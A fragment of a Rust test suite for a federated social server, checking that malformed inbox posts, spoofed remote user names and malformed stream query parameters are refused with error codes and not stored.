            assert_eq!(answer.status, 415, "{content_type:?}: {}", answer.text);
            assert_eq!(answer.code(), "unsupported_media_type");
        }
        for content_type in [
            "application/activity+json",
            "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
            "application/json; charset=utf-8",
        ] {
            let answer = post_inbox(Some(content_type), activity).await;
            assert_eq!(answer.code(), "signature_missing", "{content_type}");
        }
        let answer = post_inbox(
            Some("application/activity+json"),
            r#"{"type": "Create", "actor": "http://peer.example/users/x\u0000"}"#,
        )
        .await;
        api_refused("inbox NUL", &answer, Some("invalid_text"));

        // A remote user name that reads as another handle is refused
        // before it is stored; a plain one on the same server is taken,
        // with its display name normalised.
        let document = anonymous.get_activity("/users/anne").await.json;
        let pem = document["publicKey"]["publicKeyPem"]
            .as_str()
            .unwrap()
            .to_string();
        let origin = fake_origin(pem).await;
        let host = origin.trim_start_matches("http://").to_string();
        let lookup = |name: &str| {
            let url = api(&format!("/lookup?handle={name}@{host}"));
            let anne = &anne;
            async move { anne.get(&url).await }
        };
        let answer = lookup("bob").await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        let bob = answer.json;
        assert_eq!(bob["display_name"], "Nametxt.exe", "{bob}");
        let store = &instance.running.state.domain.store();
        for name in ["alice", "rlo"] {
            let answer = lookup(name).await;
            // The documented answer of a remote that cannot be taken.
            assert_eq!(answer.status, 502, "{name}: {}", answer.text);
            assert_eq!(answer.code(), "lookup_failed", "{name}");
            let stored = store
                .actor_by_ap_id(&format!("{origin}/users/{name}"))
                .await
                .unwrap();
            assert!(stored.is_none(), "{name} was stored");
        }
        still_alive(&instance, "after the classes").await;
        instance.stop().await;
    }
}

/// `GET /api/v1/stream` with a hostile `thread` or `project_thread`: refused with a code
/// before any stream opens (never a 5xx, never an endless answer).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_stream_refuses_hostile_threads_with_a_code() {
    for engine in engines() {
        let instance = fresh(engine).await;
        let (anne, _) = prepared(&instance).await;
        for query in [
            "thread=%00",
            "thread=abc",
            "thread=-1",
            "thread=0",
            "thread=99999999999999999999999",
            "thread=%FF%FE",
            "thread=1&thread=2",
            "project_thread=%00",
            "project_thread=abc",
            "project_thread=-1",
            "project_thread=0",
            "project_thread=99999999999999999999999",
            "project_thread=1&project_thread=2",
            "thread=1&project_thread=1",
            "conversation=%00",
            "conversation=abc",
            "conversation=-1",
            "conversation=0",
            "conversation=99999999999999999999999",
            "conversation=1&conversation=2",
            "conversation=1&thread=1",
            "conversation=1&project_thread=1",
        ] {
            let what = format!("{engine:?} GET /stream?{query}");
            let answer = api_send(&anne, "GET", &format!("/stream?{query}"), None).await;
            api_refused(&what, &answer, None);
        }
        still_alive(&instance, "after the stream sweep").await;
    }
}
